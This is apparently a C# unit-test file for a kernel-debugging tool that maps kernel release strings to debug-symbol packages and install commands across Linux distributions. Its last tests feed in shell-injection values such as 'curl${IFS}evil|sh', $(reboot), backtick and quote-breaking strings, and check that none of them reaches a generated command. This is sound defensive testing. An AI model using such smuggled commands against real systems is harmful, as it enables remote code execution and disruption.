using KernelDebug.Records;
using KernelDebug.Symbolization;
using Xunit;

namespace KernelDebug.Tests.Symbolization;

/// <summary>Which package has a kernel's debug information. What people are told to type comes from a log, and may have been put there for them to type.</summary>
public class DebugPackagesTests
{
    private const string Id = "0123456789abcdef0123456789abcdef01234567";

    [Theory]
    [InlineData("6.1.0-56-amd64", null, "linux-image-6.1.0-56-amd64-dbg", "apt-get install linux-image-6.1.0-56-amd64-dbg")]
    [InlineData("6.1.0-56-amd64", "#1  Debian 6.1.192-2", "linux-image-6.1.0-56-amd64-dbg", "apt-get install linux-image-6.1.0-56-amd64-dbg=6.1.192-2")]
    [InlineData("6.12.8+bpo-amd64", null, "linux-image-6.12.8+bpo-amd64-dbg", "apt-get install linux-image-6.12.8+bpo-amd64-dbg")]
    [InlineData("6.1.0-20-rt-arm64", null, "linux-image-6.1.0-20-rt-arm64-dbg", "apt-get install linux-image-6.1.0-20-rt-arm64-dbg")]
    [InlineData("5.15.0-91-generic", "#101-Ubuntu", "linux-image-5.15.0-91-generic-dbgsym", "apt-get install linux-image-5.15.0-91-generic-dbgsym")]
    [InlineData("6.8.0-1010-aws", "#10~22.04.1-Ubuntu", "linux-image-6.8.0-1010-aws-dbgsym", "apt-get install linux-image-6.8.0-1010-aws-dbgsym")]
    [InlineData("6.8.5-301.fc40.x86_64", null, "kernel-debuginfo-6.8.5-301.fc40.x86_64", "dnf debuginfo-install kernel-6.8.5-301.fc40.x86_64")]
    [InlineData("5.14.0-427.el9.x86_64", null, "kernel-debuginfo-5.14.0-427.el9.x86_64", "dnf debuginfo-install kernel-5.14.0-427.el9.x86_64")]
    [InlineData("5.14.0-427.el9.x86_64+debug", null, "kernel-debug-debuginfo-5.14.0-427.el9.x86_64", "dnf debuginfo-install kernel-debug-5.14.0-427.el9.x86_64")]
    [InlineData("3.10.0-1160.el7.x86_64", null, "kernel-debuginfo-3.10.0-1160.el7.x86_64", "debuginfo-install kernel-3.10.0-1160.el7.x86_64")]
    [InlineData("6.4.0-150600.23.7-default", null, "kernel-default-debuginfo", $"zypper --plus-content debug install -C 'debuginfo(build-id) = {Id}'")]
    [InlineData("6.9.1-arch1-1", null, "linux-headers", "pacman -S linux-headers")]
    [InlineData("6.6.32-1-lts", null, "linux-lts-headers", "pacman -S linux-lts-headers")]
    public void ThePackageOfAKernel(string release, string? version, string package, string command)
    {
        DebugPackage? found = DebugPackages.Find(DebugFileKind.Vmlinux, new WantedBuild(release, version, Id), null);

        Assert.Equal((package, command), (found?.Name, found?.Command));
        Assert.Contains(command, DebugPackages.Remedy(new WantedBuild(release, version, Id), null), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("6.1.0-56-amd64", "#1  Debian 6.1.192-2", "apt-get install linux-source-6.1=6.1.192-2")]
    [InlineData("5.15.0-91-generic", "#101-Ubuntu", "apt-get install linux-source-5.15.0")]
    [InlineData("6.8.5-301.fc40.x86_64", null, "dnf debuginfo-install kernel-6.8.5-301.fc40.x86_64")]
    [InlineData("6.4.0-150600.23.7-default", null, "zypper --plus-content debug install kernel-source")]
    public void ThePackageOfItsSource(string release, string? version, string command) =>
        Assert.Equal(command, DebugPackages.Find(DebugFileKind.Source, new WantedBuild(release, version, null), null)?.Command);

    /// <summary>A kernel of one's own has no package, on whatever machine.</summary>
    [Theory]
    [InlineData("6.1.192-kdata")]
    [InlineData("6.15.0")]
    [InlineData("6.15.0-rc3+")]
    public void OfAnUnknownKernel_NoPackageIsNamed(string release)
    {
        var debian = new OsRelease("debian", [], "Debian GNU/Linux 12");

        Assert.Null(DebugPackages.Find(DebugFileKind.Vmlinux, new WantedBuild(release, "#1 SMP", Id), debian));
        Assert.DoesNotContain("install", DebugPackages.Remedy(new WantedBuild(release, null, null), debian), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("debian", "", false)]
    [InlineData("linuxmint", "ubuntu debian", false)]
    [InlineData("fedora", "", true)]
    public void AnotherDistributionThanThisMachineS_IsSaid(string id, string like, bool isSaid)
    {
        var machine = new OsRelease(id, like.Split(' ', StringSplitOptions.RemoveEmptyEntries), "This One 1.0");

        DebugPackage? package = DebugPackages.Find(DebugFileKind.Vmlinux, new WantedBuild("6.1.0-56-amd64", null, null), machine);

        Assert.Equal(isSaid, package!.Note?.Contains("This One 1.0", StringComparison.Ordinal) == true);
    }

    [Theory]
    [InlineData("6.1.0;curl${IFS}evil|sh;.fc40")]
    [InlineData("6.1.0`reboot`-generic")]
    [InlineData("6.1.0$(reboot)")]
    [InlineData("-o6.1.0-1-amd64")]
    [InlineData("6.1.0-1-amd64\nreboot")]
    [InlineData("6.1.0 -1-amd64")]
    public void WhatAShellObeys_GetsIntoNoCommand(string release)
    {
        var build = new WantedBuild(release, "#1 Debian 6.1.0-1", Id);

        Assert.All(Enum.GetValues<DebugFileKind>(), kind => Assert.Null(DebugPackages.Find(kind, build, null)));
        Assert.DoesNotContain("install", DebugPackages.Remedy(build, null), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("#1 Debian 6.1;reboot")]
    [InlineData("#1 Debian $(reboot)")]
    [InlineData("#1 Debian")]
    public void AVersionThatAShellObeys_GetsIntoNoCommand(string version) => Assert.Equal(
        "apt-get install linux-image-6.1.0-56-amd64-dbg",
        DebugPackages.Find(DebugFileKind.Vmlinux, new WantedBuild("6.1.0-56-amd64", version, null), null)?.Command);

    [Fact]
    public void ABuildIdThatAShellObeys_GetsIntoNoCommand() => Assert.Equal(
        "zypper --plus-content debug install kernel-default-debuginfo",
        DebugPackages.Find(DebugFileKind.Vmlinux, new WantedBuild("6.4.0-150600.23.7-default", null, "x'; reboot; '"), null)?.Command);
}
